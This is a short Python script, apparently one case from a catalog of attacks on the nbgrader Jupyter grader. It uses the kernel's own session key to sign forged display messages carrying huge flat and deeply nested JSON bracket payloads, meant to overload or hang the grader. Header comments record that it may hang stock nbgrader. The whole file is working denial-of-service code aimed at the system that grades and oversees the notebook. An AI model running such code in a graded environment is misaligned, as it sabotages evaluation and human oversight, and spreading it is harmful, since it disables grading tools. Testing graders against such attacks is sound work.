# attack: signed displays that are small to send and large to read: millions of brackets, each of them an object
# outcome: earns what the wrong answer earns
# stock: no: may hang stock nbgrader for its whole time
import json

kernel = get_ipython().kernel
session, parent = kernel.session, get_ipython().parent_header
own = json.dumps(parent.get("header", {}), default=str).encode()


def post(header, parent=own, metadata=b"{}", content=b"{}", more=(), socket=kernel.iopub_socket, first=()):
    parts = [header, parent, metadata, content]
    socket.send_multipart([*first, b"<IDS|MSG>", session.sign(parts), *parts, *more])


def header(kind="stream"):
    return json.dumps({"msg_id": session.msg_id, "msg_type": kind, "version": "5.3", "session": session.session}).encode()


BRACKETS = b"[" + b"[]," * 900_000 + b"[]]"
DEEP = b"[" * 100_000 + b"]" * 100_000
for inside in (BRACKETS, DEEP):
    post(header("display_data"), content=b'{"data": {"application/json": ' + inside + b'}, "metadata": {}}')
